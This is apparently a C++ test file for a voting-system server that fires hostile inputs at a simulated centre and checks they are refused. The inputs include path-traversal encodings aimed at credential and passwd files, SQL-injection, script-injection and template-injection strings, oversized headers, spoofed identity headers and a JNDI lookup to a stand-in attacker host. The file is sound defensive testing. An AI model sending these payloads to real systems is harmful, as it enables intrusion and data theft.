// Addresses that climb, hide, overflow or say one thing twice, and headers that speak for somebody else.

#include "shared/wire/voters.hpp"
#include "tests/attacks/a_besieged_centre.hpp"
#include "tests/support/catch.hpp"

using namespace isoloir;
using namespace isoloir::test;

TEST_CASE("no spelling of a path leads out of what is published")
{
    ABesiegedCentre here;
    const auto anne = here.person("anne");
    const auto before = here.whole();
    const std::size_t from = here.log().size();
    using namespace std::string_literals;
    const std::vector<std::string> climbs{"../",
                                          "..%2f",
                                          "..%2F",
                                          "%2e%2e/",
                                          "%2e%2e%2f",
                                          "%252e%252e%252f",
                                          "..\\",
                                          "..%5c",
                                          "%c0%ae%c0%ae/",
                                          "%c0%ae%c0%ae%c0%af",
                                          "%e0%80%ae%e0%80%ae/",
                                          ".%00./",
                                          "....//",
                                          "..;/",
                                          "%uff0e%uff0e/",
                                          "..%00/",
                                          "..%0d%0a/",
                                          "//",
                                          "/./",
                                          "\xC0\xAE\xC0\xAE/",
                                          "%EF%BC%8E%EF%BC%8E/"};
    for (const std::string& climb : climbs)
        for (const char* below : {"/", "/fr/", "/tile/", "/inclusion/", "/admin/", "/admin/assets/", "/admin/api/election/pictures/", "/admin/api/imports/",
                                  "/admin/api/accounts/"})
            for (const char* file : {"store.key", "etc/passwd"}) {
                const std::string target = below + climb + climb + climb + file;
                const auto answer = anne.get(target);
                CAPTURE(target);
                CHECK((answer.status == 404 || answer.status == 400 || answer.status == 405));
                CHECK(answer.body.find("root:") == std::string::npos);
            }
    for (const char* target : {"/store.key", "/store.db", "/.git/config", "/admin/../store.key", "/admin%2fapi/overview", "/admin;/api/overview",
                               "/ADMIN/api/overview", "/admin/api//overview", "/admin/api/overview/", "/admin/api/overview%00", "/admin/api/overview%2f", "/xx",
                               "/fr/", "/FR", "/fr%2f..", "/xx/find", "/../find", "/fr/../nl/find", "/find/find"}) {
        CAPTURE(target);
        // A slash at its end changes nothing of a place of the desk's.
        CHECK(anne.get(target).status == (std::string(target) == "/admin/api/overview/" ? 200 : 404));
    }
    here.logged({"request refused: port=public", "status=404", "address=127.0.0.1"}, from);
    here.survived(before);
}

TEST_CASE("a number that is none, too large or below nothing, and a member that stands twice, are refused as such")
{
    ABesiegedCentre here;
    const auto terminal = here.a_terminal();
    const auto anne = here.person("anne");
    const auto before = here.whole();
    for (const char* number : {"-1", "%2B1", "1e9", "0x10", "18446744073709551615", "18446744073709551616", "9223372036854775808", "99999999999999999999999999",
                               "1.5", "%201", "1%20", "NaN", "%EF%BC%91", "1;2", "1%00", "''", "%27%20OR%201=1--"}) {
        CAPTURE(number);
        for (const char* place : {"/admin/api/records?before=", "/admin/api/audit?before="}) {
            const auto answer = anne.get(place + std::string(number));
            CHECK((answer.status == 400 || answer.status == 404));
        }
        CHECK(anne.get("/admin/api/imports/" + std::string(number)).status == 404);
    }
    for (const char* most : {"0", "999999999999999999", "000000000000000001"}) {
        CHECK(anne.get("/admin/api/records?before=" + std::string(most)).status == 200);
        CHECK(anne.get("/admin/api/audit?before=" + std::string(most)).status == 200);
    }
    for (const char* query : {"before=1&before=2", "before=1&%62efore=2", "reason=duplicate&reason=fork", "reason=Duplicate", "reason=%27;--", "terminal=xyz",
                              "terminal=00", "terminal=%00", "before=%", "%ff=1"}) {
        CAPTURE(query);
        const auto answer = anne.get("/admin/api/records?" + std::string(query));
        CHECK((answer.status == 400 || answer.status == 404));
    }
    for (const char* version : {"-1", "1e30", "9223372036854775808", "18446744073709551616", "0.5", "\"1\"", "null", "[]"}) {
        CHECK(anne.send("POST", "/admin/api/election/seal", R"({"version":)" + std::string(version) + "}").status == 400);
        CHECK(anne.send("PUT", "/admin/api/election", R"({"version":)" + std::string(version) + R"(,"file":{}})").status == 400);
    }
    for (const char* day : {"2026-02-30", "9999999999-01-01", "-1-01-01", "2026-1-1", "0000-00-00", "2026-12-31T00:00", "today", "", "1969-01-01"})
        for (const char* place : {"/admin/api/tokens", "/admin/api/staff-files"}) {
            CAPTURE(day, place);
            const bool token = std::string(place).ends_with("tokens");
            const auto answer = anne.post(place, token ? Json{{"name", "x"}, {"until", day}} : Json{{"handle", "x"}, {"until", day}});
            CHECK((answer.status == 400 || answer.status == 422));
        }
    for (const char* position : {"90000001", "-90000001", "9223372036854775807", "1e308", "\"50\"", "true", "-9223372036854775809"})
        CHECK(anne.send("PUT", "/admin/api/halls/Jambes", R"({"commune":"","address":"","hours":"","latitude":)" + std::string(position) + R"(,"longitude":0})")
                  .status == 400);

    // A terminal's own numbers: a place far behind the end of both lists begins them anew.
    auto connection = here.connected(terminal);
    wire::Cursor far{};
    far.fill(0xFF);
    const std::string election = "/v1/elections/" + to_base64url(here.package().id);
    for (const char* list : {"/voted", "/roll"})
        CHECK(connection.ask("GET " + election + list + "?after=" + to_base64url(far) + " HTTP/1.1\r\nHost: s\r\n\r\n").status == 200);
    for (const char* state : {R"({"version":"1","waiting":-1})", R"({"version":"1","waiting":1e99})", R"({"version":"1","waiting":9223372036854775808})",
                              R"({"version":"1","waiting":1,"battery":101})", R"({"version":"1\u0000","waiting":1})", R"({"version":"\u001b[2J","waiting":1})",
                              R"({"version":"1","version":"2","waiting":1})", "{", "[]", "null"}) {
        CAPTURE(state);
        CHECK(connection.ask(here.post(here.place_of(terminal) + "/status", state)).status == 400);
    }
    here.survived(before);
}

TEST_CASE("an address or a header that goes on and on is refused before anybody reads it")
{
    ABesiegedCentre here;
    const auto anne = here.person("anne");
    const auto before = here.whole();
    const std::size_t from = here.log().size();
    for (const std::string& target : {"/" + std::string(9'000, 'a'), "/find?tracker=" + std::string(9'000, 'A'), "/admin/api/halls/" + std::string(9'000, 'x')})
        CHECK(anne.get(target).status == 431);
    CHECK(anne.with("X-Long", std::string(100'000, 'x')).get("/").status == 431);
    std::map<std::string, std::string> many;
    for (int i = 0; i < 2000; ++i) many["X-" + std::to_string(i)] = "y";
    Visitor crowd = here.stranger();
    crowd.beside = many;
    CHECK(crowd.get("/").status == 431);
    here.logged({"request refused: port=public", "status=431", "address=127.0.0.1"}, from);
    // As long as may be, and still nothing: each is looked at once.
    for (const std::string& target : {"/" + std::string(7'000, 'a'), "/" + std::string(3'500, '/'), "/find?" + std::string(3'500, '&') + "tracker=A",
                                      "/admin/api/records?" + std::string(7'000, '&')})
        CHECK(anne.get(target).status < 500);
    CHECK(anne.get("/find?tracker=" + std::string(7'000, '%')).status == 200);
    here.survived(before);
}

TEST_CASE("what a request says of its host, its sender or its place changes nothing and comes back nowhere")
{
    ABesiegedCentre here;
    const auto anne = here.person("anne");
    const auto before = here.whole();
    for (const char* header : {"Host", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Port", "X-Host", "X-Original-URL", "X-Rewrite-URL", "Forwarded",
                               "Referer", "Origin", "User-Agent", "Accept-Language", "X-Forwarded-For", "X-Isoloir-User", "X-Remote-User", "Authorization"})
        for (const char* value : {"evil.example", "\"><script>alert(1)</script>", "127.0.0.1:5432", "/admin/api/accounts", "host=evil.example;proto=http",
                                  "{{7*7}}", "${jndi:ldap://evil.example/a}"}) {
            CAPTURE(header, value);
            const auto page = here.stranger().with(header, value).get("/");
            CHECK(page.status == 200);
            CHECK(page.body.find("evil.example") == std::string::npos);
            CHECK(page.body.find("<script>alert") == std::string::npos);
            CHECK_FALSE(page.has(value));
            const auto redirect = here.stranger().with(header, value).get("/admin");
            CHECK(redirect.value("Location") == "/admin/");
        }
    for (const char* header : {"X-Isoloir-User", "X-Remote-User", "X-Original-URL"})
        CHECK(here.stranger().with(header, "anne").get("/admin/api/accounts").status == 401);
    CHECK(here.log().find("jndi") == std::string::npos);
    here.survived(before);
}
